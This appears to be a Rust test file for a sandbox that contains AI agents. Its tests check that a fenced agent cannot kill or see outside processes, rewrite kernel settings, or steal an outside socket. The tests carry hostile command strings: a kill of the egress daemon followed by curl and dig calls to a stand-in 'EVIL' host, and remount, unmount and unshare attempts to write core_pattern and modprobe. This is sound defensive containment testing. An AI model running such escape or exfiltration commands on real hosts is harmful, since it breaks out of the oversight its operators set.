//! The host around an agent: its processes, and the settings of its kernel.

use crate::{
    AGENT,
    attack::{stops, stops_only_fenced, works},
    fence,
    places::{EVIL, OK},
    policies::{COMMON, EMPTY},
    program::{self, Program},
};
use std::path::Path;

#[test]
fn no_agent_signals_a_process_outside() {
    let fence = fence(COMMON);
    let mut victim = Program::start(fence.lab().command(&["sleep", "60"]));
    for pid in [fence.daemon().pid(), victim.pid()] {
        let trick = format!(
            "kill -KILL {pid} 2> /dev/null; curl -s -m 2 http://{{v4}}/{{mark}}; \
             dig +short +time=1 +tries=1 @{{v4}} {{mark}}.{{host}}"
        );
        stops_only_fenced(&fence.agent(AGENT), EVIL, &[&trick]);
        let signalled = fence.agent(AGENT).run(&format!("kill -0 {pid}"));
        assert!(!signalled.succeeded(), "an agent finds process {pid}: {signalled:#?}");
    }
    let status = fence.ctl(&["status", "-q"]);
    assert!(status.succeeded(), "a signal reached the daemon: {status:#?}");
    assert!(!victim.has_ended(), "a signal reached a process outside");
    works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
    assert!(fence.lab().run(&format!("kill -KILL {}", victim.pid())).succeeded(), "unfenced, it is reached");
    program::poll("the end of the victim", || victim.has_ended().then_some(()));
}

#[test]
fn no_agent_sees_a_process_outside() {
    let fence = fence(EMPTY);
    let pid = fence.daemon().pid();
    for look in [
        "cat /proc/[0-9]*/comm 2> /dev/null | grep -qx egressd".to_owned(),
        format!("grep -q egressd /proc/{pid}/comm"),
        format!("ls /proc/{pid}/root/"),
    ] {
        let fenced = fence.agent(AGENT).run(&look);
        assert!(!fenced.succeeded(), "`{look}` shows what is outside: {fenced:#?}");
        let unfenced = fence.lab().run(&look);
        assert!(unfenced.succeeded(), "`{look}` proves nothing: {unfenced:#?}");
    }
}

#[test]
fn no_agent_changes_the_settings_of_the_kernel() {
    let fence = fence(EMPTY);
    let settings = [
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/dev/tty/legacy_tiocsti",
        "/sys/kernel/uevent_helper",
    ];
    for path in settings.into_iter().filter(|path| Path::new(path).exists()) {
        // What it is already, for the unfenced twin does it to this machine.
        let write = format!("value=$(cat {path}) && echo \"$value\" > {path}");
        let escapes = [
            write.clone(),
            format!("mount -o remount,rw /proc/sys; mount -o remount,rw /sys; {write}"),
            format!("umount -l {path} /proc/sys /sys; {write}"),
            format!("mount -t proc proc /proc; mount -t sysfs sysfs /sys; {write}"),
            format!("unshare --user --map-root-user --mount bash -c 'mount -t proc proc /proc; {write}'"),
        ];
        for escape in &escapes {
            let fenced = fence.agent(AGENT).run(escape);
            assert!(!fenced.succeeded(), "`{escape}` changes the kernel: {fenced:#?}");
        }
        let unfenced = fence.lab().run(&write);
        assert!(unfenced.succeeded(), "`{write}` proves nothing: {unfenced:#?}");
    }
    let trigger = fence.agent(AGENT).run("echo h > /proc/sysrq-trigger");
    assert!(!trigger.succeeded(), "an agent presses keys of the console: {trigger:#?}");
}

#[test]
fn no_agent_takes_a_socket_of_a_process_outside() {
    let fence = fence(COMMON);
    // Without privileges, so that it is not protected by having more of them than the agent.
    let hold = "exec 7<> /dev/udp/10.99.0.66/9000; echo ready; read -r";
    let mut command =
        fence.lab().command(&["setpriv", "--bounding-set=-all", "--inh-caps=-all", "bash", "-c", hold]);
    command.stdin(std::process::Stdio::piped());
    let holder = Program::start(command);
    program::poll("the holder", || holder.stdout().contains("ready").then_some(()));
    stops(&fence.agent(AGENT), EVIL, &[&format!("{{trick}} steal {} 7 {{mark}}", holder.pid())]);
}
